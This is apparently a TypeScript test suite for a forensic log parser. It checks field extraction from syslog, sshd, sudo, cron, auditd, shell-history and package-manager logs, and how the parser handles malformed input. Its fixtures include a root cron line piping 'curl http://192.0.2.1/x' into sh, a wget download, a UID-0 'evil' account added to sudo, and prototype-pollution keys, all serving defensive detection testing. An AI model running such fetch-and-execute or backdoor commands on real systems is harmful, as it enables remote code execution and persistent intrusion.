import assert from "node:assert/strict";
import { test } from "node:test";
import type { LogEvent } from "@stanch/model/log-event";
import { isoTime, readLines, readOne } from "../generic/read-lines.testkit.ts";
import { formats } from "../../registry.ts";
import { auditLog } from "./audit/audit-log.ts";
import { bashHistory, fishHistory, zshHistory } from "./history/shell-history.ts";
import { pacmanLog, yumLog } from "./packages/package-log.ts";
import { syslog } from "./syslog/syslog.ts";

const head = "Mar  1 02:14:07 web-01";

function said(message: string): LogEvent {
  const event = readOne(syslog, `${head} ${message}`);
  assert.ok(event, message);
  return event;
}

type Wanted = Partial<Record<keyof LogEvent, string | number>>;

function check(message: string, wanted: Wanted): void {
  const event = said(message);
  for (const [name, value] of Object.entries(wanted)) {
    assert.equal(event[name as keyof LogEvent], value, `${name}: ${message}`);
  }
}

test("sshd: who tried what from where, and whether it was let in", () => {
  const failed = { "event.action": "ssh_login", "event.outcome": "failure", "source.ip": "203.0.113.9" };
  check("sshd[7]: Failed password for root from 203.0.113.9 port 40022 ssh2", {
    ...failed,
    "user.name": "root",
    "source.port": 40022,
  });
  check("sshd-session[7]: Failed password for invalid user x from 203.0.113.9 port 4 ssh2", {
    ...failed,
    "user.name": "x",
  });
  check("sshd[7]: Failed password for invalid user a from 192.0.2.1 from 203.0.113.9 port 4 ssh2", {
    ...failed,
    "user.name": "a from 192.0.2.1",
  });
  check("sshd[7]: Accepted publickey for deploy from 2001:db8::1 port 22 ssh2: ED25519 SHA256:abc", {
    "event.action": "ssh_login",
    "event.outcome": "success",
    "source.ip": "2001:db8::1",
    "user.name": "deploy",
  });
  check("sshd[7]: Invalid user  from 203.0.113.9 port 1", {
    "event.action": "ssh_invalid_user",
    "event.outcome": "failure",
  });
  check("sshd[7]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)", {
    "event.action": "session_start",
    "user.name": "root",
  });
  check("sshd[7]: message repeated 2 times: [ Failed password for root from 203.0.113.9 port 1 ssh2]", failed);
});

test("one refused attempt is one failure, though PAM and sshd both tell it", () => {
  const pam = (user: string): string =>
    `${head} sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=${user}`;
  const lines = [pam("a"), `${head} sshd[9]: Failed password for a from 203.0.113.9 port 1 ssh2`, pam("a"), pam("b")];
  const outcomes = readLines(syslog, lines).events.map((event) => event["event.outcome"]);
  assert.deepEqual(outcomes, ["unknown", "failure", "unknown", "failure"]);
});

test("syslog: lines without a date, RouterOS topics and WireGuard in the kernel", () => {
  const undated = readOne(syslog, "web-01 sshd[7]: Failed password for root from 203.0.113.9 port 40022 ssh2");
  assert.equal(undated?.basis, "none");
  assert.equal(undated?.["host.name"], "web-01");
  assert.equal(undated?.["event.outcome"], "failure");
  check("system,error,critical login failure for user a b from 203.0.113.9 via web", {
    "event.outcome": "failure",
    "source.ip": "203.0.113.9",
    "user.name": "a b",
  });
  check("kernel: [8.1] wireguard: wg0: Invalid handshake initiation from 203.0.113.9:51820", {
    "event.module": "wireguard",
    "source.ip": "203.0.113.9",
    "event.outcome": "failure",
  });
});

test("sshd: a connection that named itself once is known by its process", () => {
  const { events } = readLines(syslog, [
    `${head} sshd[9]: Connection from 192.0.2.3 port 5 on 198.51.100.1 port 22`,
    `${head} sshd[9]: fatal: Unable to negotiate a key exchange method [preauth]`,
  ]);
  assert.equal(events[1]?.["source.ip"], "192.0.2.3");
  assert.equal(events[1]?.["event.outcome"], "failure");
});

test("accounts, sudo, su, cron, systemd and the packet filter", () => {
  check("sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id", {
    "event.action": "sudo_command",
    "event.outcome": "success",
    "user.name": "alice",
    "user.target.name": "root",
    "process.command_line": "/usr/bin/id",
  });
  const plain = said("sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'a ; b'");
  assert.deepEqual(plain.fields, { TTY: "pts/0" });
  assert.deepEqual(said("sudo: alice : PWD=/ ; USER=root ; COMMAND=/bin/sh").fields, {});
  check("sudo: bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", {
    "event.outcome": "failure",
    "user.name": "bob",
  });
  check("su: FAILED SU (to root) alice on pts/1", {
    "event.action": "su_session",
    "event.outcome": "failure",
    "user.target.name": "root",
  });
  check("useradd[3]: new user: name=evil, UID=0, GID=0, home=/home/evil, shell=/bin/bash", {
    "event.action": "user_added",
    "user.target.name": "evil",
  });
  check("usermod[3]: add 'evil' to group 'sudo'", { "event.action": "group_member_added", "group.name": "sudo" });
  check("passwd[3]: pam_unix(passwd:chauthtok): password changed for root", {
    "event.action": "password_changed",
    "user.target.name": "root",
  });
  check("CRON[3]: (root) CMD (curl http://192.0.2.1/x | sh)", {
    "event.action": "cron_command",
    "process.command_line": "curl http://192.0.2.1/x | sh",
  });
  check("crontab[3]: (root) REPLACE (www-data)", {
    "event.action": "cron_changed",
    "user.name": "root",
    "user.target.name": "www-data",
  });
  check("systemd[1]: Started OpenBSD Secure Shell server.", { "event.action": "service_started" });
  check("systemd-logind[1]: New session 5 of user alice.", {
    "event.action": "session_start",
    "session.id": "5",
    "user.name": "alice",
  });
  check("kernel: [9.1] [UFW BLOCK] IN=eth0 OUT= MAC= SRC=203.0.113.9 DST=192.0.2.1 LEN=60 PROTO=TCP SPT=5 DPT=22", {
    "event.action": "firewall_drop",
    "source.ip": "203.0.113.9",
    "destination.port": 22,
    "rule.name": "[UFW BLOCK]",
  });
});

test("every dialect of the envelope states host, program and time", () => {
  const lines: readonly (readonly [string, string, string | undefined])[] = [
    ["Mar  1 02:14:07 web sshd[1]: x", "2025-03-01T02:14:07.000Z", "web"],
    ["<38>Mar  1 02:14:07 web sshd[1]: x", "2025-03-01T02:14:07.000Z", "web"],
    ["3月  1 02:14:07 web sshd[1]: x", "2025-03-01T02:14:07.000Z", "web"],
    ["2026-03-01T02:14:07.5+08:00 web sshd[1]: x", "2026-02-28T18:14:07.500Z", "web"],
    ['<38>1 2026-03-01T02:14:07Z web sshd 1 ID [a@1 b="]"] x', "2026-03-01T02:14:07.000Z", "web"],
    ["Mar  1 2026 02:14:07 web sshd[1]: x", "2026-03-01T02:14:07.000Z", "web"],
    ["Mar  1 02:14:07 sshd[1]: x", "2025-03-01T02:14:07.000Z", undefined],
  ];
  for (const [line, time, host] of lines) {
    const event = readOne(syslog, line);
    assert.equal(isoTime(event), time, line);
    assert.equal(event?.["host.name"], host, line);
    assert.equal(event?.["process.name"], "sshd", line);
    assert.equal(event?.message, "x", line);
  }
});

test("audit records of one system call are one event with its command line", () => {
  const stamp = "msg=audit(1700000000.123:7):";
  const { events, skipped } = readLines(auditLog, [
    `type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 comm="sh" exe="/bin/sh" key="exec"`,
    `type=EXECVE ${stamp} argc=3 a0="sh" a1="-c" a2=6964203B2077`,
    `type=CWD ${stamp} cwd="/tmp"`,
  ]);
  assert.equal(events.length, 1);
  assert.equal(events[0]?.["process.command_line"], "sh -c id ; w");
  assert.equal(events[0]?.["event.action"], "process_started");
  assert.equal(events[0]?.["process.working_directory"], "/tmp");
  assert.equal(skipped["joined"], 2);
});

test("histories of shells, with times and without", () => {
  assert.equal(isoTime(readLines(bashHistory, ["#1700000000", "id"]).events[0]), "2023-11-14T22:13:20.000Z");
  assert.equal(readOne(bashHistory, "wget http://192.0.2.1/x", { path: "root/.bash_history" })?.["user.name"], "root");
  assert.equal(readOne(zshHistory, ": 1700000000:0;id")?.["process.command_line"], "id");
  assert.equal(
    isoTime(readLines(fishHistory, ["- cmd: id", "  when: 1700000000"]).events[0]),
    "2023-11-14T22:13:20.000Z",
  );
});

test("packages of yum and pacman", () => {
  assert.equal(readOne(yumLog, "Mar 01 02:14:07 Installed: nmap-7.1")?.["event.action"], "package_installed");
  assert.equal(
    readOne(pacmanLog, "[2026-03-01T02:14:07+0800] [ALPM] installed nmap (7.9-1)")?.["event.action"],
    "package_installed",
  );
});

const hostile = [
  "",
  " ",
  "\0",
  "<",
  "<38>",
  "<38>1 ",
  "Mar",
  "Mar  1 02:14:07",
  "Mar 32 02:14:07 a b: c",
  "type=",
  "type=X msg=audit(9999999999.9:1): ",
  "#",
  ": ",
  "- cmd: ",
  "[",
  `${head} ${"a".repeat(200_000)}: x`,
  `${head} sshd[1]: Failed password for ${" from ".repeat(5000)}`,
  `${head} sudo: ${"a ; ".repeat(20_000)}`,
  `${head} kernel: SRC= DST=${"=A ".repeat(20_000)}`,
];

test("words from evidence find nothing that objects inherit", () => {
  for (const word of ["constructor", "toString", "__proto__", "hasOwnProperty"]) {
    const event = readOne(auditLog, `type=${word} msg=audit(1772331247.123:77): ${word}=1 res=failed`);
    assert.equal(event?.["event.action"], "audit_record", word);
  }
});

test("hostile lines never throw and are each counted once", () => {
  const own = formats.filter((format) => format.by === "line" && format.family === "unix");
  assert.ok(own.length >= 9);
  for (const format of own) if (format.by === "line") readLines(format, hostile);
});
